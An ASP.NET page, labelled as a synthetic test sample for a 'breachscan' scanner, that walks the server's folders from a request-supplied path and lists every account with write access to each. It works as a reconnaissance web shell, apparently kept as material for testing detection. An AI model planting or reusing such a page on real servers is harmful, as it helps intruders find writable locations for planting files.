<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Security.AccessControl" %>
<%-- synthetic (breachscan test sample): lists who may write to each folder under a path --%>
<script runat="server">
    void Walk(DirectoryInfo dir, int depth)
    {
        try {
            DirectorySecurity acl = dir.GetAccessControl(AccessControlSections.Access);
            foreach (FileSystemAccessRule r in acl.GetAccessRules(true, true, typeof(System.Security.Principal.NTAccount)))
                if ((r.FileSystemRights & FileSystemRights.Write) != 0)
                    Response.Write(Server.HtmlEncode(dir.FullName + " " + r.IdentityReference) + "<br/>");
            if (depth < 3)
                foreach (DirectoryInfo sub in dir.GetDirectories())
                    Walk(sub, depth + 1);
        } catch (Exception) { }
    }
</script>
<% Walk(new DirectoryInfo(Request["root"] ?? "C:\\"), 0); %>
